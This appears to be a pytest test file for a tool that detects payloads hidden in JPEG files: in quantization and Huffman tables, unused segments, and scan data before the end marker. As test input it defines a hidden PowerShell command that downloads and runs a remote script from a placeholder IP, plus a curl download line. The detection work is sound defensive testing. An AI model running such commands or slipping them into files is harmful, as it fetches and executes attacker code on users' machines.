"""JPEG table values judged as data (agent/inspect/jpeg/tables.py `table_values`), the
content of segments no picture needs (JPGn, DAC, DHP, EXP, reserved: judged like an unknown
APPn) and the script window that starts at the scan data (agent/inspect/stray_code.py).

Offsets come from T.81: a DQT table is Pq/Tq then 64 values of 1 byte (Pq 0) or 2 bytes
(Pq 1) (B.2.4.1); a DHT table is Tc/Th, 16 code-length counts, then one value per code
(B.2.4.2); an SOS segment is FFDA, a 2-byte length Ls counting itself, then its header,
after which the entropy-coded data starts (B.2.3).
"""

from __future__ import annotations

import base64
import io
import random

import pytest
from PIL import Image

from agent.inspect.base import Region, Structure
from agent.inspect.engine import inspect_bytes
from agent.inspect.jpeg.segments import walk_segments
from agent.inspect.jpeg.tables import DHT, DQT, table_values
from agent.inspect.reader import Reader
from agent.inspect.stray_code import (
    _before_eoi,
    _embedded_images,
    _restart_marker_in,
    _script_in,
    first_executable,
    stray_code,
)
from agent.model import Finding, Severity
from tests import classify_samples as cs
from tests import jpeg_samples as js

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"  # 63 bytes
STANDARD_DC_COUNTS = bytes([0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0])  # T.81 K.3.3.1


def _insert_before_sos(jpeg: bytes, segment: bytes) -> bytes:
    at = jpeg.find(b"\xff\xda")
    return jpeg[:at] + segment + jpeg[at:]


def _with_first_dqt_values(jpeg: bytes, values: bytes) -> bytes:
    """The JPEG with its first 8-bit quantization table's 64 values replaced."""
    assert len(values) == 64 and 0 not in values
    at = jpeg.find(b"\xff\xdb")
    assert jpeg[at + 4] >> 4 == 0  # Pq 0: 64 one-byte values follow Pq/Tq
    return jpeg[: at + 5] + values + jpeg[at + 5 + 64 :]


def _codes(report: object) -> dict[str, str]:
    return {f.code: f.message for f in report.findings}  # type: ignore[attr-defined]


# --- which values are data ----------------------------------------------------------


def test_every_quantization_table_value_range_is_handed_out() -> None:
    body = b"\x00" + bytes(range(1, 65)) + b"\x11" + bytes(range(1, 129))
    assert table_values(DQT, body) == [(1, 65), (66, 194)]


def test_a_quantization_table_cut_short_is_handed_out_to_the_end() -> None:
    assert table_values(DQT, b"\x00" + bytes(range(1, 31))) == [(1, 31)]


def test_bytes_after_a_non_table_are_not_values() -> None:
    """Pq 2 is no table (B.2.4.1): what follows is slack, judged as stray bytes instead."""
    assert table_values(DQT, b"\x00" + bytes(64) + b"\x20" + bytes(64)) == [(1, 65)]


def test_a_huffman_table_of_distinct_symbols_is_explained() -> None:
    body = b"\x00" + STANDARD_DC_COUNTS + bytes(range(12))
    assert table_values(DHT, body) == []


def test_a_huffman_table_that_repeats_a_symbol_hands_out_its_values() -> None:
    counts = bytes(15) + bytes([len(SCRIPT)])  # every code 16 bits long
    body = b"\x13" + counts + SCRIPT + b"\x00" + STANDARD_DC_COUNTS + bytes(range(12))
    assert table_values(DHT, body) == [(17, 17 + len(SCRIPT))]


def test_other_segments_have_no_table_values() -> None:
    assert table_values(0xC0, b"\x08\x00\x10\x00\x10\x01\x01\x11\x00") == []


# --- the engine judges them -----------------------------------------------------------


def test_a_script_written_as_quantization_values_is_quarantined() -> None:
    jpeg = _with_first_dqt_values(js.photo(seed=21), SCRIPT.ljust(64, b" "))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


def test_base64_of_a_program_split_over_two_quantization_tables_is_quarantined() -> None:
    """Each table alone holds part of the run; the walker's adjacent table regions are
    joined the way a loader would read them back."""
    encoded = base64.b64encode(cs.real_pe())[:256]  # 192 bytes: past the PE header
    jpeg = js.photo(seed=22)
    at = jpeg.find(b"\xff\xdb")
    tables = b"\x12" + encoded[:128] + b"\x13" + encoded[128:]  # two 16-bit tables
    jpeg = jpeg[:at] + js.segment(DQT, tables) + jpeg[at:]
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"


def test_a_script_in_a_huffman_table_that_repeats_symbols_is_quarantined() -> None:
    counts = bytes(15) + bytes([len(SCRIPT)])
    jpeg = _insert_before_sos(js.photo(seed=23), js.segment(DHT, b"\x13" + counts + SCRIPT))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


def test_ordinary_quantization_tables_at_every_quality_are_clean() -> None:
    image = Image.open(io.BytesIO(js.photo(seed=27)))
    for quality in (1, 5, 12, 25, 50, 75, 95, 100):
        out = io.BytesIO()
        image.save(out, "JPEG", quality=quality)
        report = inspect_bytes("photo.jpg", out.getvalue())
        assert report.verdict.value == "clean", (quality, _codes(report))


def test_walker_lists_quantization_values_and_not_distinct_huffman_tables() -> None:
    jpeg = js.photo(seed=24)
    walk = walk_segments(Reader.from_bytes(jpeg), 0)
    labels = [region.label for region in walk.metadata]
    dqt_tables = jpeg.count(b"\xff\xdb")  # Pillow writes one table per DQT segment
    assert labels.count("JPEG quantization table") == dqt_tables >= 1
    assert not any("Huffman" in label for label in labels)


# --- the script window starts at the scan data -------------------------------------------


def test_scan_data_starts_after_the_first_sos_header() -> None:
    jpeg = js.photo(seed=25)
    sos = jpeg.find(b"\xff\xda")
    header_length = int.from_bytes(jpeg[sos + 2 : sos + 4], "big")  # Ls counts itself
    walk = walk_segments(Reader.from_bytes(jpeg), 0)
    assert walk.scan_data_start == sos + 2 + header_length


def test_a_script_in_a_thumbnails_scan_data_before_eoi_is_still_found() -> None:
    jpeg = js.photo(seed=26)
    eoi = len(jpeg) - 2
    report = inspect_bytes("thumb.jpg", jpeg[:eoi] + SCRIPT + jpeg[eoi:])
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_image_data" in _codes(report)


# --- segments no picture needs ---------------------------------------------------------

# JPG0 and JPG13 extensions, DAC (arithmetic conditioning), DHP, EXP, JPG, a reserved code
UNREAD_MARKERS = (0xF0, 0xFD, 0xCC, 0xDE, 0xDF, 0xC8, 0x50)


@pytest.fixture(scope="module")
def big_photo() -> bytes:
    """A JPEG of more than 1 MiB: its headers lie outside the tail searched before EOI."""
    rng = random.Random(31)
    out = io.BytesIO()
    Image.frombytes("RGB", (1200, 900), rng.randbytes(1200 * 900 * 3)).save(out, "JPEG", quality=95)
    assert len(out.getvalue()) > 1024 * 1024
    return out.getvalue()


@pytest.mark.parametrize("marker", UNREAD_MARKERS, ids=lambda m: f"FF{m:02X}")
@pytest.mark.parametrize("kind", ["program", "base64 program", "script"])
def test_a_payload_in_a_segment_no_picture_needs_is_quarantined(
    big_photo: bytes, marker: int, kind: str
) -> None:
    payload = {
        "program": cs.real_pe(),
        "base64 program": base64.b64encode(cs.real_pe()),
        "script": SCRIPT,
    }[kind]
    jpeg = _insert_before_sos(big_photo, js.segment(marker, payload))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.payload_in_metadata" in _codes(report)


@pytest.mark.parametrize("marker", UNREAD_MARKERS, ids=lambda m: f"FF{m:02X}")
def test_harmless_bytes_in_a_segment_no_picture_needs_stay_clean(marker: int) -> None:
    jpeg = _insert_before_sos(js.photo(seed=32), js.segment(marker, bytes(range(256))))
    assert inspect_bytes("photo.jpg", jpeg).verdict.value == "clean"


def test_a_program_after_a_dnl_segments_line_count_is_quarantined(big_photo: bytes) -> None:
    """DNL holds exactly Ld and NL (B.2.5); bytes its length covers past NL are slack."""
    jpeg = _insert_before_sos(big_photo, js.segment(0xDC, b"\x03\x84" + cs.real_pe()))
    report = inspect_bytes("scan.jpg", jpeg)
    assert report.verdict.value == "quarantine"
    assert "jpeg.unexplained_data" in _codes(report)


# --- issue 15: only real tables' values are handed out (T.81 B.2.4.1, B.2.4.2) -------------------


def test_quantization_values_stop_at_destination_four() -> None:
    assert table_values(DQT, b"\x00" + bytes(64) + b"\x04" + bytes(64)) == [(1, 65)]


@pytest.mark.parametrize("tc_th", [0x20, 0x04], ids=["class 2", "destination 4"])
def test_no_values_from_a_huffman_header_out_of_range(tc_th: int) -> None:
    assert table_values(DHT, bytes([tc_th]) + bytes([2] + [0] * 15) + b"aa") == []


def test_huffman_counts_include_the_first_and_go_up_to_256() -> None:
    two = b"\x00" + bytes([2] + [0] * 15) + b"aa"  # two 1-bit codes, the same symbol
    assert table_values(DHT, two) == [(17, 19)]
    full = b"\x00" + bytes([16] * 16) + bytes(255) + b"\x01"  # 256 codes, zero repeated
    assert table_values(DHT, full) == [(17, 273)]


# --- the windows before EOI (agent/inspect/stray_code.py, called directly) -----------------
# Hand-made byte strings: zero bytes stand for scan data (no 0xFF, so no markers), FF D9 is
# EOI. The documented windows: a program header is searched in the 1 MiB (1024 * 1024 bytes)
# before EOI, a script in the 16 KiB (16 * 1024 bytes) before EOI and not before the first
# scan's data, an accounted image's EOI in its last 64 bytes.

MIB = 1024 * 1024  # JPEG_TAIL_BYTES as documented
SCRIPT_WINDOW = 16 * 1024  # SCRIPT_TAIL_BYTES as documented
EOI = b"\xff\xd9"
PE_MESSAGE = "Hidden inside this picture's image data is a Windows program."


def _scan(data: bytes) -> Reader:
    return Reader.from_bytes(data)


def _one(findings: list[Finding]) -> tuple[str, str | None, int | None, str]:
    assert len(findings) == 1
    f = findings[0]
    return f.code, f.payload, f.offset, f.detail


def test_a_program_exactly_the_tail_before_eoi_is_found_with_its_offset() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(MIB - len(pe)) + EOI  # header 1 MiB before EOI at 10 + MIB
    found = _before_eoi(_scan(data), "jpeg", [], 0, 10 + MIB, whole=False, scan=0)
    detail = "pe header at 10, 1048576 bytes before the end marker at 1048586"
    assert _one(found) == ("jpeg.payload_in_image_data", "pe", 10, detail)
    assert found[0].severity == Severity.HIGH


def test_a_program_one_byte_further_back_than_the_tail_is_not_searched() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(MIB + 1 - len(pe)) + EOI
    assert _before_eoi(_scan(data), "jpeg", [], 0, 10 + MIB + 1, whole=False, scan=0) == []


def test_a_program_far_back_is_found_when_the_scan_is_searched_whole() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(2 * MIB) + EOI
    eoi = 10 + len(pe) + 2 * MIB
    assert _one(_before_eoi(_scan(data), "jpeg", [], 0, eoi, whole=True, scan=0))[2] == 10


def test_a_restart_marker_before_eoi_widens_the_program_search_to_the_image() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(2 * MIB) + b"\xff\xd3" + bytes(8) + EOI
    eoi = 10 + len(pe) + 2 * MIB + 10
    assert _one(_before_eoi(_scan(data), "jpeg", [], 0, eoi, whole=False, scan=0))[2] == 10


def test_a_restart_marker_after_eoi_does_not_widen_the_search() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(2 * MIB) + EOI + b"\xff\xd3" + bytes(8)
    eoi = 10 + len(pe) + 2 * MIB
    assert _before_eoi(_scan(data), "jpeg", [], 0, eoi, whole=False, scan=0) == []


def test_a_program_after_eoi_is_not_in_the_scan_data() -> None:
    data = bytes(100) + EOI + cs.real_pe()
    assert _before_eoi(_scan(data), "jpeg", [], 0, 100, whole=True, scan=0) == []


def test_restart_markers_are_looked_for_between_start_and_end_only() -> None:
    data = b"\xff\xd0" + bytes(20) + b"\xff\xd7" + bytes(20)
    reader = _scan(data)
    assert _restart_marker_in(reader, 0, 10) is True
    assert _restart_marker_in(reader, 2, 22) is False  # both markers outside
    assert _restart_marker_in(reader, 2, 24) is True  # RST7 at 22..24
    assert _restart_marker_in(reader, 30, 44) is False


def test_a_script_exactly_the_script_window_before_eoi_is_found() -> None:
    data = bytes(100) + SCRIPT + bytes(SCRIPT_WINDOW - len(SCRIPT)) + EOI
    eoi = 100 + SCRIPT_WINDOW
    found = _before_eoi(_scan(data), "jpeg", [], 0, eoi, whole=False, scan=0)
    detail = "powershell text in the 16384 bytes before the end marker at 16484"
    assert _one(found) == ("jpeg.payload_in_image_data", "powershell", 100, detail)


def test_a_script_ending_where_the_script_window_starts_is_not_searched() -> None:
    data = bytes(100) + SCRIPT + bytes(SCRIPT_WINDOW) + EOI
    eoi = 100 + len(SCRIPT) + SCRIPT_WINDOW
    assert _before_eoi(_scan(data), "jpeg", [], 0, eoi, whole=True, scan=0) == []


def test_the_script_window_starts_at_the_scan_data() -> None:
    data = SCRIPT + bytes(37) + bytes(200) + EOI  # headers of 100 bytes, then scan data
    assert _before_eoi(_scan(data), "jpeg", [], 0, 300, whole=False, scan=100) == []
    data = bytes(100) + SCRIPT + bytes(137) + EOI
    found = _before_eoi(_scan(data), "jpeg", [], 0, 300, whole=False, scan=100)
    detail = "powershell text in the 200 bytes before the end marker at 300"
    assert _one(found) == ("jpeg.payload_in_image_data", "powershell", 100, detail)


def test_a_script_after_eoi_is_not_in_the_script_window() -> None:
    data = bytes(300) + EOI + SCRIPT
    assert _before_eoi(_scan(data), "jpeg", [], 0, 300, whole=False, scan=100) == []


def test_base64_of_a_program_before_eoi_is_named_as_the_program() -> None:
    assert _script_in(base64.b64encode(cs.real_pe())) == "pe"


def _structure(end: int | None, *regions: tuple[int, int]) -> Structure:
    accounted = [Region(start, stop, "MPF image") for start, stop in regions]
    return Structure("jpeg", end=end, accounted=accounted)


def test_an_accounted_images_eoi_is_the_last_one_in_its_last_64_bytes() -> None:
    image = b"\xff\xd8\xff" + bytes(97) + EOI + bytes(10) + EOI + bytes(20)  # 134 bytes
    data = bytes(50) + image + EOI + bytes(10)  # an FF D9 after the region is not its EOI
    assert _embedded_images(_scan(data), _structure(50, (50, 184))) == [(50, 50 + 112)]


def test_an_eoi_exactly_64_bytes_before_the_region_end_is_found() -> None:
    image = b"\xff\xd8\xff" + bytes(97) + EOI + bytes(62)  # FF D9 at 100 of 164
    data = bytes(50) + image
    assert _embedded_images(_scan(data), _structure(50, (50, 214))) == [(50, 150)]


def test_an_accounted_image_without_an_eoi_in_its_tail_ends_at_its_region_end() -> None:
    image = b"\xff\xd8\xff" + bytes(10) + EOI + bytes(100)  # FF D9 more than 64 bytes back
    data = bytes(50) + image + EOI
    assert _embedded_images(_scan(data), _structure(50, (50, 165))) == [(50, 165)]


def test_which_accounted_regions_are_images() -> None:
    data = b"\xff\xd8\xff\xd9" + bytes(6) + b"\xff\xd8\xff" + b"MZ" + b"\xff\xd8\xff\xd9"
    reader = _scan(data)
    # a region inside the structure, a 3-byte SOI, a non-image, then a 4-byte image
    structure = _structure(4, (0, 4), (10, 13), (13, 15), (15, 19))
    assert _embedded_images(reader, structure) == [(15, 17)]
    assert _embedded_images(reader, _structure(None, (0, 4))) == [(0, 2)]


def test_a_jpeg_without_a_known_end_is_searched_whole() -> None:
    data = bytes(10) + cs.real_pe()
    found = stray_code(_scan(data), "jpeg", Structure("jpeg", end=None), [])
    detail = "pe header at 10, outside any region the format explains"
    assert _one(found) == ("jpeg.payload_in_image_data", "pe", 10, detail)


def test_a_jpeg_ending_at_byte_2_is_searched_before_that_eoi_only() -> None:
    data = EOI + cs.real_pe()  # what follows EOI is the trailer's to judge
    assert stray_code(_scan(data), "jpeg", Structure("jpeg", end=2), []) == []


def test_the_eoi_is_the_last_two_bytes_of_the_structure() -> None:
    data = bytes(10) + cs.real_pe() + EOI
    eoi = len(data) - 2
    found = stray_code(_scan(data), "jpeg", Structure("jpeg", end=len(data)), [])
    assert _one(found)[3] == f"pe header at 10, {eoi - 10} bytes before the end marker at {eoi}"


def test_stray_bytes_send_the_program_search_over_the_whole_scan() -> None:
    pe = cs.real_pe()
    data = bytes(10) + pe + bytes(2 * MIB) + EOI
    clean = Structure("jpeg", end=len(data))
    assert stray_code(_scan(data), "jpeg", clean, []) == []
    stray = Structure("jpeg", end=len(data), unexplained=[Region(5, 6, "stray bytes")])
    assert _one(stray_code(_scan(data), "jpeg", stray, []))[2] == 10


def test_the_script_window_of_a_jpeg_starts_at_its_scan_data() -> None:
    data = SCRIPT + bytes(200) + EOI
    headers = Structure("jpeg", end=len(data), scan_data_start=100)
    assert stray_code(_scan(data), "jpeg", headers, []) == []
    unknown = Structure("jpeg", end=len(data))  # no scan data start known: from byte 0
    detail = "powershell text in the 263 bytes before the end marker at 263"
    assert _one(stray_code(_scan(data), "jpeg", unknown, [])) == (
        "jpeg.payload_in_image_data",
        "powershell",
        0,
        detail,
    )


def test_a_program_in_an_accounted_image_is_found() -> None:
    image = b"\xff\xd8\xff" + bytes(7) + cs.real_pe() + EOI
    data = bytes(100) + EOI + image
    structure = Structure("jpeg", end=102, accounted=[Region(102, len(data), "MPF image")])
    found = stray_code(_scan(data), "jpeg", structure, [])
    eoi = len(data) - 2
    detail = f"pe header at 112, {eoi - 112} bytes before the end marker at {eoi}"
    assert _one(found) == ("jpeg.payload_in_image_data", "pe", 112, detail)


def test_an_accounted_image_is_searched_in_its_tail_only() -> None:
    image = b"\xff\xd8\xff" + bytes(7) + cs.real_pe() + bytes(2 * MIB) + EOI
    data = bytes(100) + EOI + image
    structure = Structure("jpeg", end=102, accounted=[Region(102, len(data), "MPF image")])
    assert stray_code(_scan(data), "jpeg", structure, []) == []


def test_the_main_images_finding_is_kept_when_accounted_images_follow() -> None:
    image = b"\xff\xd8\xff" + bytes(7) + EOI
    data = bytes(10) + cs.real_pe() + EOI + image
    end = len(data) - len(image)
    structure = Structure("jpeg", end=end, accounted=[Region(end, len(data), "MPF image")])
    assert _one(stray_code(_scan(data), "jpeg", structure, []))[2] == 10


def test_only_strong_markers_count_in_the_scan_data() -> None:
    """A telling marker (a download command) is not one safe to search in compressed data."""
    assert _script_in(b"curl -s http://198.51.100.7/x") is None
    assert _script_in(b"x <script>alert(1)</script> x") == "html"


def test_an_mz_too_close_to_a_signature_past_64_kib_is_no_header() -> None:
    """e_lfanew points past the 64-byte DOS header: an MZ 16 bytes before `PE\\0\\0` whose
    e_lfanew says 16 is no header, also where the search window does not start at byte 0."""
    sig = 70 * 1024  # past MAX_PE_HEADER_OFFSET (64 KiB), so the window starts after byte 0
    data = bytearray(sig + 4096)
    data[sig - 16 : sig - 14] = b"MZ"
    data[sig - 16 + 0x3C : sig - 16 + 0x40] = (16).to_bytes(4, "little")  # behind PE\0\0
    data[sig : sig + 4] = b"PE\x00\x00"
    assert first_executable(Reader.from_bytes(bytes(data)), []) is None
